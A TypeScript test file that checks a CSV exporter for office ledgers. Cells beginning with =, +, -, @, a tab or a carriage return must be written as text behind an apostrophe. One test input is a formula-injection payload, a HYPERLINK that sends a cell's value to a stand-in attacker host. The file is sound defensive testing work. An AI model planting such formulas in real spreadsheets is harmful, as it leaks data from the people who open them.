import { parse } from 'csv-parse/sync';
import { tableToCsv } from './export-files.js';
import type { ExportTable } from './export-table.js';

/*
 * Imported ledgers come from outside the office (evaluators, units); the CSV export is opened in
 * Excel or WPS on leaders' desktops. A cell that would run as a formula must arrive as text.
 */
describe('CSV export', () => {
  const table = (cells: (string | number)[]): ExportTable => ({
    title: '整改台账',
    asOf: '2026-06-08',
    columns: cells.map((_, index) => ({ header: `列${index + 1}`, width: 10 })),
    rows: [{ light: null, cells }],
  });
  const readBack = (bytes: Buffer): string[][] => parse(bytes.toString('utf8').replace(/^\uFEFF/, ''));

  it('given cells starting with = + - @, a tab or a carriage return, writes them as text behind an apostrophe', () => {
    const [, row] = readBack(
      tableToCsv(table(['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+问题二', '-措施', '@SUM(1+1)', '\t=1+1', '\r=1+1'])),
    );
    expect(row).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+问题二", "'-措施", "'@SUM(1+1)", "'\t=1+1", "'\r=1+1"]);
  });

  it('keeps ordinary text and numbers, negative numbers (days overdue) included, as they are', () => {
    const [, row] = readBack(tableToCsv(table(['网上依申请公开渠道未开通', 3, -5, 'A-1', ''])));
    expect(row).toEqual(['网上依申请公开渠道未开通', '3', '-5', 'A-1', '']);
  });
});
